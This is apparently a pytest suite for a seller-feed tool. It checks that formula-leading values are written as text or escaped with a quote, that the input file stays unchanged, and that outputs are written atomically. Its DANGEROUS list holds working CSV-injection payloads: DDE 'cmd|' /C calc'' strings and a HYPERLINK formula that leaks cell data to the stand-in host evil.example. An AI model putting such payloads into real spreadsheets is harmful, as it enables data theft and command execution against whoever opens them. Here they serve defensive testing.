"""What feeds-kit writes is safe: no formula injection, the input never touched, atomic files.

* A seller's value starting with ``=``, ``+``, ``-`` or ``@`` (the OWASP CSV-injection list) is
  written as text in every workbook we write (annotated copy, fix sheet) and escaped with a
  leading ``'`` in every CSV report; the text itself is kept.
* The input file is byte-identical after every command, and an output that would land on it
  (same path, a symlink to it) is refused.
* Outputs are written to a temporary file and renamed: an interruption (disk full, Ctrl-C) in
  the middle of writing leaves the previous output intact and no temporary file behind.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from adversarial_support import sha256
from click.testing import CliRunner
from sheetmaker import write_csv, write_raw_xlsx

from feeds_kit import render, templates, workbook
from feeds_kit.api import validate_file
from feeds_kit.cli import cli
from feeds_kit.errors import OutputError

#: Values a spreadsheet would run as formulas (or DDE commands) if written as they are.
DANGEROUS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
_FORMULA_START = ("=", "+", "-", "@")
HEAD = ["sku", "marketplace", "price", "quantity", "note"]


def _rows() -> list[list[Any]]:
    # Every row fails (quantity "many"), so every row lands in the fix sheet too.
    rows: list[list[Any]] = [HEAD]
    for n, value in enumerate(DANGEROUS):
        rows.append([value, "US", value if n % 2 else 12.5, "many", value])
    return rows


@pytest.fixture(params=["xlsx", "csv"])
def hostile(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    """The dangerous values as text cells (xlsx inline strings) or CSV fields."""
    if request.param == "xlsx":
        return write_raw_xlsx(tmp_path / "hostile.xlsx", {"Offers": _rows()})
    return write_csv(tmp_path / "hostile.csv", _rows())


def _assert_no_formula(path: Path) -> int:
    """No cell of the workbook is a formula, and the dangerous values are there as text.
    Returns how many dangerous values were found."""
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name)
                assert not re.search(rb"<(\w+:)?f[ >/]", xml), f"formula element in {name}"
    book = openpyxl.load_workbook(path)
    found = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(_FORMULA_START):
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate} {cell.value!r}"
                    found += cell.value in DANGEROUS
    return found


def test_annotated_copy_keeps_dangerous_values_as_text(
    hostile: Path, runner: CliRunner, tmp_path: Path
) -> None:
    out = tmp_path / "annotated.xlsx"
    result = runner.invoke(cli, ["validate", str(hostile), "--annotate", str(out)])
    assert result.exit_code == 1, result.output
    # Each dangerous value is in the data sheet as text (SKU and note columns at least).
    assert _assert_no_formula(out) >= 2 * len(DANGEROUS)


@pytest.mark.parametrize("suffix", [".xlsx"])
def test_fix_sheet_keeps_dangerous_values_as_text(
    hostile: Path, tmp_path: Path, suffix: str
) -> None:
    result = validate_file(hostile)
    assert result.layout is not None
    out = tmp_path / f"fix{suffix}"
    count = workbook.write_fix_sheet(hostile, result.layout, result.report, out)
    assert count == len(DANGEROUS)
    assert _assert_no_formula(out) >= 2 * len(DANGEROUS)


def test_fix_sheet_as_csv_keeps_values_verbatim(tmp_path: Path) -> None:
    """A text fix sheet is the seller's own file again, for re-upload: values are byte-for-byte
    what the source CSV held (a ``'`` would change the SKU); the .xlsx fix sheet is the one to
    open in a spreadsheet (see docs/hardening.md)."""
    source = write_csv(tmp_path / "hostile.csv", _rows())
    result = validate_file(source)
    assert result.layout is not None
    out = tmp_path / "fix.csv"
    workbook.write_fix_sheet(source, result.layout, result.report, out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [r[0] for r in rows[1:]] == list(DANGEROUS)


def test_csv_report_escapes_every_dangerous_field(hostile: Path, runner: CliRunner) -> None:
    result = runner.invoke(cli, ["validate", str(hostile), "--format", "csv"])
    assert result.exit_code == 1
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == list(render.CSV_COLUMNS)
    escaped = 0
    for row in rows[1:]:
        for field in row:
            assert not field.startswith(_FORMULA_START), f"unescaped {field!r} in {row}"
            escaped += field[1:] in DANGEROUS and field.startswith("'")
    # The SKU of each row and the dangerous values quoted: all escaped, none lost.
    skus = {row[rows[0].index("sku")] for row in rows[1:]} - {""}
    assert skus == {"'" + v for v in DANGEROUS}
    assert escaped >= len(DANGEROUS)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+A1", "'-1+A1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("SKU-1", "SKU-1"), ("", ""), ("a=b", "a=b"),
    ],
)
def test_escape_formula(text: str, expected: str) -> None:
    assert render.escape_formula(text) == expected


def test_json_output_keeps_values_exact(hostile: Path, runner: CliRunner) -> None:
    """JSON is data, not a spreadsheet: the values stay exactly as typed."""
    result = runner.invoke(cli, ["validate", str(hostile), "--format", "json"])
    document = json.loads(result.stdout)
    assert {i["sku"] for i in document["issues"]} - {None} == set(DANGEROUS)


# --------------------------------------------------------------------------- input untouched


@pytest.fixture
def offers(tmp_path: Path) -> Path:
    return write_raw_xlsx(tmp_path / "offers.xlsx", {"Offers": [
        ["sku", "marketplace", "price", "quantity"],
        ["FK-TEE-RED-S", "US", 19.49, 5],
        ["H11-UNKNOWN", "US", 12.5, "x"],
    ]})


def test_input_untouched_by_every_offline_command(
    offers: Path, runner: CliRunner, tmp_path: Path
) -> None:
    before, mtime = sha256(offers), offers.stat().st_mtime_ns
    commands = [
        ["validate", str(offers)],
        ["validate", str(offers), "--format", "json", "--annotate", str(tmp_path / "a.xlsx")],
        ["validate", str(offers), "--format", "csv", "--engine", "openpyxl"],
        ["build", str(offers), "-o", str(tmp_path / "feed.json"), "--seller-id", "A1",
         "--skip-invalid"],
        ["submit", str(offers), "--dry-run", "--local", "--yes"],
        ["submit", str(offers), "--local", "--yes", "--skip-invalid", "--annotate",
         str(tmp_path / "verdict.xlsx"), "--fix-sheet", str(tmp_path / "fix.xlsx")],
    ]
    for args in commands:
        result = runner.invoke(cli, args)
        assert result.exit_code in (0, 1), (args, result.output)
        assert sha256(offers) == before, f"{args[0]} modified the input"
    assert offers.stat().st_mtime_ns == mtime
    assert (tmp_path / "verdict.xlsx").exists() and (tmp_path / "fix.xlsx").exists()


@pytest.mark.parametrize("how", ["same path", "symlink", "other spelling"])
@pytest.mark.parametrize("option", ["--annotate", "-o"])
def test_output_onto_the_input_is_refused(
    how: str, option: str, offers: Path, runner: CliRunner, tmp_path: Path
) -> None:
    before = sha256(offers)
    if how == "same path":
        target = offers
    elif how == "symlink":
        target = tmp_path / "link.xlsx"
        target.symlink_to(offers)
    else:
        target = tmp_path / "sub" / ".." / offers.name
        (tmp_path / "sub").mkdir()
    command = "validate" if option == "--annotate" else "build"
    args = [command, str(offers), option, str(target)]
    if command == "build":
        args += ["--seller-id", "A1", "--skip-invalid"]
    result = runner.invoke(cli, args)
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith("Error: ") and len(result.stderr.splitlines()) == 1
    assert "input" in result.stderr
    assert sha256(offers) == before


def test_fix_sheet_onto_the_input_is_refused(offers: Path) -> None:
    result = validate_file(offers)
    assert result.layout is not None
    before = sha256(offers)
    with pytest.raises(OutputError, match=r"Refusing to write over the input offers\.xlsx"):
        workbook.write_fix_sheet(offers, result.layout, result.report, offers)
    assert sha256(offers) == before


# --------------------------------------------------------------------------- atomic writes


class Interrupted(Exception):
    """Stands for whatever stops a save midway."""


def _half_then(error: BaseException) -> Callable[..., None]:
    """A replacement ``save(path)`` that writes half a zip to ``path``, then fails."""

    def save(self: Any, filename: Any) -> None:
        with open(filename, "wb") as fh:
            fh.write(b"PK\x03\x04" + b"\x00" * 100)
        raise error

    return save


FAILURES = {
    "disk full": OSError(errno.ENOSPC, "No space left on device"),
    "Ctrl-C": KeyboardInterrupt(),
    "library error": Interrupted("openpyxl gave up"),
}


def _leftovers(folder: Path, keep: set[str]) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name not in keep)


@pytest.mark.parametrize("failure", list(FAILURES))
@pytest.mark.parametrize("writer", ["annotated copy", "fix sheet", "template"])
def test_interrupted_workbook_save_keeps_the_previous_file(
    writer: str, failure: str, offers: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    result = validate_file(offers)
    assert result.layout is not None
    layout = result.layout
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    target = out_dir / "result.xlsx"
    target.write_bytes(b"the previous output")
    write: Callable[[], object] = {
        "annotated copy": lambda: workbook.annotate_workbook(offers, layout, result.report,
                                                             target),
        "fix sheet": lambda: workbook.write_fix_sheet(offers, layout, result.report, target),
        "template": lambda: templates.write_template("offers", target),
    }[writer]
    error = FAILURES[failure]
    monkeypatch.setattr(openpyxl.Workbook, "save", _half_then(error))
    expected: type[BaseException] = OutputError if isinstance(error, OSError) else type(error)
    with pytest.raises(expected) as caught:
        write()
    if expected is OutputError:
        assert str(caught.value) == f"Cannot write {target}: No space left on device."
    assert target.read_bytes() == b"the previous output"
    assert _leftovers(out_dir, {"result.xlsx"}) == []
    monkeypatch.undo()
    write()  # and once the disk is back, the same call writes the whole file
    assert zipfile.is_zipfile(target)


def test_interrupted_csv_fix_sheet_keeps_the_previous_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = write_csv(tmp_path / "offers.csv", _rows())
    result = validate_file(source)
    assert result.layout is not None
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    target = out_dir / "fix.csv"
    target.write_text("previous\n", encoding="utf-8")
    real_writer = csv.writer

    def failing_writer(fh: Any, *args: Any, **kwargs: Any) -> Any:
        fh.write("sku,half a line")
        raise KeyboardInterrupt

    monkeypatch.setattr(csv, "writer", failing_writer)
    with pytest.raises(KeyboardInterrupt):
        workbook.write_fix_sheet(source, result.layout, result.report, target)
    monkeypatch.setattr(csv, "writer", real_writer)
    assert target.read_text(encoding="utf-8") == "previous\n"
    assert _leftovers(out_dir, {"fix.csv"}) == []


def test_interrupted_annotation_through_the_cli(
    offers: Path, runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The user's view: one sentence, exit 2, the previous annotated copy still whole."""
    target = tmp_path / "checked.xlsx"
    first = runner.invoke(cli, ["validate", str(offers), "--annotate", str(target)])
    assert first.exit_code == 1
    previous = target.read_bytes()
    monkeypatch.setattr(openpyxl.Workbook, "save", _half_then(FAILURES["disk full"]))
    result = runner.invoke(cli, ["validate", str(offers), "--annotate", str(target)])
    assert result.exit_code == 2
    assert result.stderr == f"Error: Cannot write {target}: No space left on device.\n"
    assert target.read_bytes() == previous
    assert _leftovers(tmp_path, {"checked.xlsx", "offers.xlsx", "home"}) == []


@pytest.mark.parametrize("failure", ["disk full", "Ctrl-C"])
def test_interrupted_build_keeps_the_previous_feed(
    failure: str, offers: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from feeds_kit.api import build_file

    out_dir = tmp_path / "out"
    feed = out_dir / "feed.json"
    first = build_file(offers, feed, seller_id="A1", skip_invalid=True)
    assert first.build is not None
    previous = {p.name: p.read_bytes() for p in out_dir.iterdir()}
    error = FAILURES[failure]
    real_fsync = os.fsync

    def failing_fsync(fd: int) -> None:
        raise error

    monkeypatch.setattr(os, "fsync", failing_fsync)
    with pytest.raises((OutputError, KeyboardInterrupt)):
        build_file(offers, feed, seller_id="A2", skip_invalid=True)
    monkeypatch.setattr(os, "fsync", real_fsync)
    after = {p.name: p.read_bytes() for p in out_dir.iterdir()}
    assert after == previous, "a half-built feed replaced the previous one"


def test_workbook_is_on_disk_before_it_is_renamed_into_place(
    offers: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """fsync of the temporary file comes before the rename, so a power cut cannot leave an
    empty file where the previous output was."""
    result = validate_file(offers)
    assert result.layout is not None
    events: list[str] = []
    real_fsync, real_replace = os.fsync, os.replace

    def fsync(fd: int) -> None:
        events.append("fsync")
        real_fsync(fd)

    def replace(src: Any, dst: Any) -> None:
        events.append(f"replace {Path(dst).name}")
        real_replace(src, dst)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "replace", replace)
    workbook.annotate_workbook(offers, result.layout, result.report, tmp_path / "a.xlsx")
    assert events == ["fsync", "replace a.xlsx"]
